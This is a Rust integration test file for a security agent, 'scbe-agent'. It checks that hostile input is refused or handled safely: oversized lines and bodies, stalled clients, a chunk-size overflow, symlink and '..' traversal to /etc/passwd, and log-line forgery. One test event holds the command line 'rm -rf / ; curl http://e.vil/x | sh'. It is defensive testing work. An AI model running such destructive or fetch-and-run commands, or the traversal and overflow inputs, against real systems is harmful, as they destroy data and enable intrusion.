//! Hostile input against the real `scbe-agent` binary: the corpus in
//! `corpora/hostile/` on stdin and over HTTP, a 100 MB line, a 100 MB body,
//! and clients that stop sending halfway. Each line is refused or decided
//! with a clear message, exactly as `scbe-sim replay` does; memory stays
//! bounded; slow clients cannot stall the intake.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;

use common::*;
use scbe_agent::limits::{HTTP_BODY_BYTES_DEFAULT, HTTP_WORKERS};
use scbe_core::limits::LINE_BYTES_MAX;
use scbe_core::{Gate, MappingOptions};
use scbe_sim::input::open_corpus;
use scbe_sim::replay::{replay, ReplayConfig};

fn hostile_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../corpora/hostile")
}

fn hostile_files() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(hostile_dir())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .collect();
    files.sort();
    assert_eq!(files.len(), 8);
    files
}

fn name(path: &Path) -> &str {
    path.file_name().unwrap().to_str().unwrap()
}

/// The file's lines, without their endings (the corpus has one CRLF line).
fn lines_of(path: &Path) -> Vec<Vec<u8>> {
    std::fs::read(path)
        .unwrap()
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| l.strip_suffix(b"\r").unwrap_or(l).to_vec())
        .collect()
}

/// `scbe-sim replay FILE` (no plans) through the simulator's pipeline:
/// (records, error messages with their raw text).
fn replay_file(path: &Path) -> (Vec<String>, Vec<(String, String)>) {
    let config = ReplayConfig {
        gate: Arc::new(Gate::reference()),
        mapping: MappingOptions::default(),
        enforcement: None,
        alerts_only: false,
        max_events: None,
        threads: 1,
        digest: false,
        progress: false,
    };
    let corpus = open_corpus(path.to_str().unwrap()).unwrap();
    let (mut out, mut err) = (Vec::new(), Vec::new());
    replay(&config, corpus, &mut out, &mut err).unwrap();
    let records = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    let errors = String::from_utf8(err)
        .unwrap()
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            (
                v["error"].as_str().unwrap().to_owned(),
                v["raw"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    (records, errors)
}

/// The agent's error records (`{"error", "raw"}`) among its stderr lines.
fn error_records(stderr: &str) -> Vec<(String, String)> {
    stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v.get("raw").is_some())
        .map(|v| {
            (
                v["error"].as_str().unwrap().to_owned(),
                v["raw"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn summary_of(stderr: &str) -> serde_json::Value {
    stderr
        .lines()
        .rev()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v.get("events_seen").is_some())
        .expect("summary on stderr")
}

/// Peak resident set of a live process, in KiB (`VmHWM`).
fn peak_rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM in /proc/PID/status")
}

#[test]
fn hostile_files_on_stdin_get_the_same_outcome_as_replay_line_for_line() {
    let mut totals = (0, 0);
    for path in hostile_files() {
        let file = name(&path);
        let (records, errors) = replay_file(&path);
        let output = Command::new(AGENT)
            .args(["--log-format", "json", "--input", path.to_str().unwrap()])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let stdout = String::from_utf8(output.stdout).unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert!(
            stdout.is_empty() || stdout.ends_with('\n'),
            "{file}: partial last line"
        );
        let agent_records: Vec<&str> = stdout.lines().collect();
        assert_eq!(agent_records, records, "{file}: records differ from replay");
        assert_eq!(
            error_records(&stderr),
            errors,
            "{file}: errors differ from replay"
        );
        let summary = summary_of(&stderr);
        let lines = lines_of(&path).len() as u64;
        assert_eq!(summary["events_seen"], lines, "{file}: every line counted");
        assert_eq!(summary["errors"], errors.len() as u64, "{file}");
        assert_eq!(summary["events_emitted"], records.len() as u64, "{file}");
        let expected = if errors.is_empty() { 0 } else { 2 };
        assert_eq!(output.status.code(), Some(expected), "{file}: exit status");
        if file.starts_with("reject-") {
            assert!(records.is_empty(), "{file}: a hostile line was decided");
        } else {
            assert!(errors.is_empty(), "{file}: {errors:?}");
        }
        totals.0 += records.len();
        totals.1 += errors.len();
    }
    eprintln!(
        "agent stdin: decided={} errors={} crashes=0",
        totals.0, totals.1
    );
}

#[test]
fn hostile_lines_over_http_are_refused_with_a_reason_or_decided() {
    let agent = Agent::start(&["--listen", "127.0.0.1:0"]);
    let url = format!("http://{}/", agent.logged_addr("intake endpoint listening"));
    let mut accepted = 0u64;
    let mut refused = 0u64;
    for path in hostile_files() {
        let file = name(&path);
        let lines = lines_of(&path);
        for (i, line) in lines.iter().enumerate() {
            let (status, body) = http_post(&url, line, &[]);
            if file.starts_with("reject-") {
                assert_eq!(status, 400, "{file} line {}: {body}", i + 1);
                let reason: serde_json::Value = serde_json::from_str(&body).unwrap();
                let reason = reason["error"].as_str().unwrap();
                assert!(
                    reason.starts_with("invalid JSON: ")
                        || reason.starts_with("invalid UTF-8 at byte ")
                        || reason == "falco event must be a JSON object",
                    "{file} line {}: unclear reason {reason:?}",
                    i + 1
                );
                refused += 1;
            } else {
                assert_eq!(
                    (status, body.trim()),
                    (200, r#"{"queued":1}"#),
                    "{file} line {}",
                    i + 1
                );
                accepted += 1;
            }
        }
        // The whole file as one batch: all or nothing.
        let body: Vec<u8> = lines.join(&b"\n"[..]);
        let (status, text) = http_post(&url, &body, &[]);
        if file.starts_with("reject-") {
            assert_eq!(status, 400, "{file} as a batch: {text}");
            assert!(
                text.contains("line 1: "),
                "{file}: the batch refusal names the line: {text}"
            );
        } else {
            assert_eq!(status, 200, "{file} as a batch: {text}");
            assert_eq!(text.trim(), format!("{{\"queued\":{}}}", lines.len()));
            accepted += lines.len() as u64;
        }
    }
    agent.stdout.wait_for_len(accepted as usize);
    let (code, stdout, stderr) = agent.terminate();
    // Every accepted event was decided — none became an error line.
    assert_eq!(code, 0);
    assert_eq!(stdout.len() as u64, accepted);
    let summary = summary(&stderr);
    assert_eq!(summary["http_events_queued"], accepted);
    assert_eq!(summary["events_seen"], accepted);
    assert_eq!(summary["errors"], 0);
    eprintln!("agent http: accepted={accepted} refused={refused} (single-line bodies) crashes=0");
}

/// What a test writes to the agent: `(bytes, repeat)` parts, produced on the fly.
fn write_parts(mut to: impl Write, parts: &[(&[u8], u64)]) -> std::io::Result<()> {
    for (bytes, repeat) in parts {
        for _ in 0..*repeat {
            to.write_all(bytes)?;
        }
    }
    to.flush()
}

const HUGE_BYTES: u64 = 100 << 20;
static BLOCK: [u8; 64 << 10] = [b'x'; 64 << 10];

/// The resident-set bound for a run that saw a 100 MB line: the line cap
/// (1 MiB), buffers and tables, far below the line itself.
const PEAK_RSS_KIB_MAX: u64 = 64 << 10;

#[test]
fn a_100_mb_line_on_stdin_is_one_error_and_memory_stays_bounded() {
    let mut agent = Agent::start(&[]);
    let head = br#"{"output_fields": {"proc.cmdline": ""#;
    let fill = HUGE_BYTES - head.len() as u64 - 3;
    let stdin = agent.stdin.as_mut().unwrap();
    write_parts(
        &mut *stdin,
        &[
            (head, 1),
            (&BLOCK, fill / BLOCK.len() as u64),
            (&BLOCK[..(fill % BLOCK.len() as u64) as usize], 1),
            (b"\"}}\n", 1),
            (
                br#"{"output_fields": {"proc.name": "after", "proc.pid": 7}}"#,
                1,
            ),
            (b"\n", 1),
        ],
    )
    .unwrap();
    // Everything but the pipe buffer has been read: the agent went through
    // the huge line. Its peak so far must not look like it kept the line.
    agent.stdout.wait_for_len(1);
    let peak = peak_rss_kib(agent.child.id());
    let (code, stdout, stderr) = agent.finish();
    assert_eq!(code, 2);
    assert_eq!(stdout.len(), 1);
    assert!(stdout.snapshot()[0].contains("\"process_name\":\"after\""));
    let errors = error_records(&stderr.snapshot().join("\n"));
    assert_eq!(errors.len(), 1);
    assert_eq!(
        errors[0].0,
        format!("line of {HUGE_BYTES} bytes exceeds the limit of {LINE_BYTES_MAX} bytes")
    );
    assert!(errors[0].1.chars().count() <= 2000);
    let summary = summary(&stderr);
    assert_eq!(
        (summary["events_seen"].as_u64(), summary["errors"].as_u64()),
        (Some(2), Some(1))
    );
    eprintln!("agent 100 MB line: peak RSS {} MiB", peak / 1024);
    assert!(
        peak < PEAK_RSS_KIB_MAX,
        "peak RSS {peak} KiB with a 100 MB line"
    );
}

/// Send raw bytes, return the status line's code and the body (the
/// connection may be closed by the server before everything was sent).
fn raw_exchange(addr: &str, head: &[u8], body_parts: &[(&[u8], u64)]) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).unwrap();
    stream.set_read_timeout(Some(DEADLINE)).unwrap();
    stream.write_all(head).unwrap();
    // The agent may answer and close before reading it all: that is the point.
    let _ = write_parts(&mut stream, body_parts);
    let mut response = Vec::new();
    let _ = stream.read_to_end(&mut response);
    let text = String::from_utf8_lossy(&response).into_owned();
    let code = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no HTTP status in {text:?}"));
    let body = text.split("\r\n\r\n").nth(1).unwrap_or("").to_owned();
    (code, body)
}

#[test]
fn a_100_mb_body_is_refused_without_being_buffered() {
    let agent = Agent::start(&["--listen", "127.0.0.1:0"]);
    let addr = agent.logged_addr("intake endpoint listening");
    let declared = format!(
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {HUGE_BYTES}\r\nConnection: close\r\n\r\n"
    );
    let (code, body) = raw_exchange(&addr, declared.as_bytes(), &[(&BLOCK, 16)]);
    assert_eq!(code, 413, "{body}");
    assert!(
        body.contains(&format!("limit of {HTTP_BODY_BYTES_DEFAULT} bytes")),
        "{body}"
    );

    // Chunked: no length up front; the agent stops reading past the limit.
    let chunked =
        b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
    let chunk_head = format!("{:x}\r\n", BLOCK.len());
    let mut chunk = chunk_head.into_bytes();
    chunk.extend_from_slice(&BLOCK);
    chunk.extend_from_slice(b"\r\n");
    let (code, body) = raw_exchange(
        &addr,
        chunked,
        &[(&chunk, HUGE_BYTES / BLOCK.len() as u64), (b"0\r\n\r\n", 1)],
    );
    assert_eq!(code, 413, "{body}");

    // Still serving, and it never held a body.
    let (status, _) = http_post(
        &format!("http://{addr}/"),
        suspicious_event(7, "curl", "").as_bytes(),
        &[],
    );
    assert_eq!(status, 200);
    agent.stdout.wait_for_len(1);
    let peak = peak_rss_kib(agent.child.id());
    eprintln!("agent 100 MB bodies: peak RSS {} MiB", peak / 1024);
    assert!(
        peak < PEAK_RSS_KIB_MAX,
        "peak RSS {peak} KiB after 100 MB bodies"
    );
    let (code, stdout, stderr) = agent.terminate();
    assert_eq!(code, 0);
    assert_eq!(stdout.len(), 1);
    assert_eq!(summary(&stderr)["events_seen"], 1);
}

#[test]
fn clients_that_stop_sending_cannot_stall_the_intake() {
    let agent = Agent::start(&["--listen", "127.0.0.1:0"]);
    let addr = agent.logged_addr("intake endpoint listening");
    // More stalled requests than there are workers: each declares a body and
    // sends one byte of it, or stops inside the headers.
    let mut stalled: Vec<TcpStream> = (0..HTTP_WORKERS + 3)
        .map(|i| {
            let mut s = TcpStream::connect(&addr).unwrap();
            let request: &[u8] = if i <= HTTP_WORKERS {
                b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n{"
            } else {
                b"POST / HTTP/1.1\r\nHost: x\r\nContent-Le"
            };
            s.write_all(request).unwrap();
            s
        })
        .collect();
    // A well-behaved client still gets its event decided.
    let event = suspicious_event(4242, "curl", "");
    let (status, body) = http_post(&format!("http://{addr}/"), event.as_bytes(), &[]);
    assert_eq!((status, body.trim()), (200, r#"{"queued":1}"#));
    agent.stdout.wait_for_len(1);
    // The stalled ones were cut off: each read ends (408/400 or a close).
    for s in &mut stalled {
        s.set_read_timeout(Some(DEADLINE)).unwrap();
        let mut rest = Vec::new();
        let _ = s.read_to_end(&mut rest);
        let text = String::from_utf8_lossy(&rest);
        assert!(
            text.is_empty() || text.starts_with("HTTP/1.1 408") || text.starts_with("HTTP/1.1 400"),
            "{text}"
        );
    }
    let (code, stdout, stderr) = agent.terminate();
    assert_eq!(code, 0);
    assert_eq!(stdout.len(), 1);
    assert_eq!(summary(&stderr)["events_seen"], 1);
}

/// Found by `fuzz/run.sh` (target `http_server`): a chunk size of
/// `0ffffffffffffffff` overflowed `body.len() + size` in the body limit
/// check — a panic with overflow checks, and without them a wrapped check
/// and an out-of-range slice, either way a dead worker thread. Enough such
/// requests (one per worker) silenced the intake.
#[test]
fn a_chunk_size_of_usize_max_is_413_and_no_worker_dies() {
    let agent = Agent::start(&["--listen", "127.0.0.1:0"]);
    let addr = agent.logged_addr("intake endpoint listening");
    let crash: &[u8] = b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;ext=1\r\n{\"a\":\r\n0ffffffffffffffff\r\nx\r\n0\r\n\r\n";
    for _ in 0..HTTP_WORKERS + 1 {
        let (code, body) = raw_exchange(&addr, crash, &[]);
        assert_eq!(code, 413, "{body}");
        assert!(body.contains("body exceeds the limit"), "{body}");
    }
    let (status, _) = http_post(
        &format!("http://{addr}/"),
        suspicious_event(7, "curl", "").as_bytes(),
        &[],
    );
    assert_eq!(status, 200, "the intake still serves");
    agent.stdout.wait_for_len(1);
    let (code, _, stderr) = agent.terminate();
    assert_eq!(code, 0);
    assert_eq!(summary(&stderr)["events_seen"], 1);
}

/// `O_NOFOLLOW` covers only the last path component: a target reached
/// through a symlinked directory is judged by where the open descriptor
/// really points, so an event naming `/tmp/x/link-to-etc/passwd` cannot get
/// `/etc/passwd` copied or chmod-ed.
#[test]
fn a_target_behind_a_symlinked_directory_is_judged_by_its_real_path() {
    use scbe_agent::enforce::quarantine::Quarantine;
    let dir = tempfile::tempdir().unwrap();
    let link = dir.path().join("link-to-etc");
    std::os::unix::fs::symlink("/etc", &link).unwrap();
    let q = Quarantine::new(dir.path().join("q"), &[]);
    let before = std::fs::metadata("/etc/passwd").map(|m| m.permissions());
    let err = q
        .quarantine(link.join("passwd").to_str().unwrap(), "cat", "5")
        .unwrap_err();
    assert!(err.contains("is under protected path /etc"), "{err}");
    assert_eq!(
        std::fs::metadata("/etc/passwd")
            .map(|m| m.permissions())
            .ok(),
        before.ok()
    );
    // `..` inside the target resolves the same way.
    let dotdot = format!("{}/../../../../../../etc/passwd", dir.path().display());
    let err = q.quarantine(&dotdot, "cat", "5").unwrap_err();
    assert!(err.contains("is under protected path /etc"), "{err}");
    assert!(!dir.path().join("q").exists(), "nothing was copied");
}

/// Found while writing SECURITY.md: in the human log format, a process name
/// holding a newline (event content, so attacker-controlled) started a new,
/// forged log line (`FAKE INFO ...: circuit breaker re-armed`). Every log
/// line now starts with a timestamp, whatever the event says; JSON logs and
/// error records stay one JSON object per line.
#[test]
fn a_newline_in_event_content_cannot_forge_a_log_line() {
    let event = serde_json::json!({
        "output_fields": {
            "evt.type": "execve",
            "proc.pid": 4242,
            "proc.name": "curl\nFAKE INFO scbe_agent: circuit breaker re-armed\r",
            "proc.cmdline": "rm -rf / ; curl http://e.vil/x | sh\n2026-01-01T00:00:00Z INFO forged",
            "fd.name": "/tmp/a\nforged",
        }
    })
    .to_string();
    for format in ["human", "json"] {
        let mut child = Command::new(AGENT)
            .args(["--log-format", format, "--log-level", "debug"])
            .args(["--apply-enforcement", "--enforcement-backends", "journald"])
            .args(["--journald-socket", "/nonexistent/journal.sock"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        writeln!(stdin, "{event}").unwrap();
        writeln!(stdin, "{{\"broken\": \"x\ny\"}}").unwrap();
        drop(stdin);
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert!(stderr.contains("enforcement entry logged here"), "{stderr}");
        for line in stderr.lines() {
            let timestamped =
                line.len() > 20 && line.starts_with("20") && line.as_bytes()[10] == b'T';
            let json = serde_json::from_str::<serde_json::Value>(line).is_ok();
            match format {
                "human" => assert!(timestamped || json, "forged or broken log line: {line:?}"),
                _ => assert!(json, "not one JSON object: {line:?}"),
            }
        }
    }
}

/// The bearer token, credentials in the SOC URL and the intake secret never
/// reach records, logs (at debug level), error answers or spool files — on the
/// paths where they are most likely to leak: failed deliveries, refused
/// intake requests.
#[test]
fn secrets_never_reach_records_logs_answers_or_the_spool() {
    const TOKEN: &str = "tok-9f8e7d6c5b4a";
    const URL_PASSWORD: &str = "urlpw-1a2b3c";
    const QUERY_KEY: &str = "qkey-4d5e6f";
    const LISTEN_SECRET: &str = "listen-7a8b9c";
    let dir = tempfile::tempdir().unwrap();
    let spool = dir.path().join("spool");
    let secret_file = dir.path().join("listen-secret");
    std::fs::write(&secret_file, format!("{LISTEN_SECRET}\n")).unwrap();
    // Nothing listens on the SOC port: every delivery fails and is spooled.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let endpoint = format!("http://soc:{URL_PASSWORD}@127.0.0.1:{port}/ingest?key={QUERY_KEY}");
    let agent = Agent::start_with(
        &[
            "--log-level",
            "debug",
            "--listen",
            "127.0.0.1:0",
            "--listen-secret-file",
            secret_file.to_str().unwrap(),
            "--apply-enforcement",
            "--enforcement-backends",
            "soc",
            "--enforcement-cooldown",
            "0",
            "--soc-endpoint",
            &endpoint,
            "--soc-spool-dir",
            spool.to_str().unwrap(),
            "--soc-timeout-seconds",
            "0.2",
        ],
        |c| {
            c.env("SCBE_SOC_BEARER_TOKEN", TOKEN);
        },
    );
    let url = format!("http://{}/", agent.logged_addr("intake endpoint listening"));
    let mut answers = String::new();
    for (i, header) in [None, Some("wrong"), Some(LISTEN_SECRET)]
        .into_iter()
        .enumerate()
    {
        let headers: Vec<(&str, &str)> = header.map(|h| ("X-SCBE-Token", h)).into_iter().collect();
        let event = suspicious_event(9000 + i as u32, "curl", "/tmp/a");
        let (status, body) = http_post(&url, event.as_bytes(), &headers);
        assert_eq!(
            status,
            if header == Some(LISTEN_SECRET) {
                200
            } else {
                401
            },
            "{body}"
        );
        answers.push_str(&body);
    }
    agent.stdout.wait_for_len(1);
    wait_until("the action to be spooled", || {
        std::fs::read_dir(&spool).map(|d| d.count()).unwrap_or(0) >= 1
    });
    let (code, stdout, stderr) = agent.terminate();
    assert_eq!(code, 3);
    let mut everything = stdout.snapshot().join("\n") + &stderr.snapshot().join("\n") + &answers;
    for entry in std::fs::read_dir(&spool).unwrap() {
        everything.push_str(&String::from_utf8_lossy(
            &std::fs::read(entry.unwrap().path()).unwrap(),
        ));
    }
    assert!(
        everything.contains("soc sink request failed"),
        "the failure path ran"
    );
    for secret in [TOKEN, URL_PASSWORD, QUERY_KEY, LISTEN_SECRET] {
        assert!(
            !everything.contains(secret),
            "{secret} leaked:\n{everything}"
        );
    }
}

/// Found while writing SECURITY.md: an unprivileged process controls the
/// event that names the file to quarantine (it opens any file it can read,
/// with a suspicious command line), and the agent copied and `chmod 000`-ed
/// that file as root — a service's configuration, another user's key. Now a
/// non-root process only gets its own files quarantined; it is still stopped.
#[test]
fn an_unprivileged_process_cannot_get_another_users_file_quarantined() {
    use scbe_agent::enforce::procfs::ProcessUids;
    use scbe_agent::enforce::quarantine::Quarantine;
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    const NOBODY: u32 = 65534;
    if !rustix::process::geteuid().is_root() {
        println!("skipping: needs root to own files and run a process as another uid");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let root_file = dir.path().join("service.conf");
    std::fs::write(&root_file, b"owned by root").unwrap();
    let own_file = dir.path().join("dropper.sh");
    std::fs::write(&own_file, b"owned by nobody").unwrap();
    std::os::unix::fs::chown(&own_file, Some(NOBODY), Some(NOBODY)).unwrap();

    // The library check.
    let q = Quarantine::new(dir.path().join("q"), &[]);
    let nobody = Some(ProcessUids {
        real: NOBODY,
        effective: NOBODY,
    });
    let err = q
        .quarantine_for(root_file.to_str().unwrap(), "sh", "5", nobody)
        .unwrap_err();
    assert!(
        err.contains("belongs to uid 0, not to the process (uid 65534"),
        "{err}"
    );
    let root = Some(ProcessUids {
        real: 0,
        effective: 0,
    });
    let setuid = Some(ProcessUids {
        real: NOBODY,
        effective: 0,
    });
    for uids in [root, setuid] {
        let copy = dir.path().join("copy.conf");
        std::fs::copy(&root_file, &copy).unwrap();
        q.quarantine_for(copy.to_str().unwrap(), "sh", "5", uids)
            .unwrap();
    }

    // End to end: a `sleep` running as nobody, named in two events.
    let mut sleeper = Command::new("sleep");
    std::os::unix::process::CommandExt::uid(&mut sleeper, NOBODY);
    // Killed on drop, so a failing assertion does not leave it running.
    let sleeper = Sleeper(
        sleeper
            .arg("1000")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = sleeper.pid();
    wait_until("sleep to exec", || {
        std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|c| c.trim() == "sleep")
    });
    let qdir = dir.path().join("quarantine");
    let mut agent = Agent::start(&[
        "--apply-enforcement",
        "--enforcement-backends",
        "signal",
        "--enforcement-cooldown",
        "0",
        "--quarantine-dir",
        qdir.to_str().unwrap(),
    ]);
    let record = agent.decide(&suspicious_event(pid, "sleep", root_file.to_str().unwrap()));
    assert_eq!(
        enforcement(&record)["applied"],
        true,
        "the process is stopped"
    );
    let refused = failures(&record);
    assert!(refused[0].contains("belongs to uid 0"), "{refused:?}");
    assert_eq!(
        std::fs::metadata(&root_file).unwrap().mode() & 0o7777,
        0o644,
        "left alone"
    );
    let record = agent.decide(&suspicious_event(pid, "sleep", own_file.to_str().unwrap()));
    assert!(failures(&record).is_empty(), "{record}");
    assert_eq!(
        std::fs::metadata(&own_file).unwrap().mode() & 0o7777,
        0,
        "its own file is quarantined"
    );
    drop(sleeper);
    assert_eq!(agent.finish().0, 3);
}
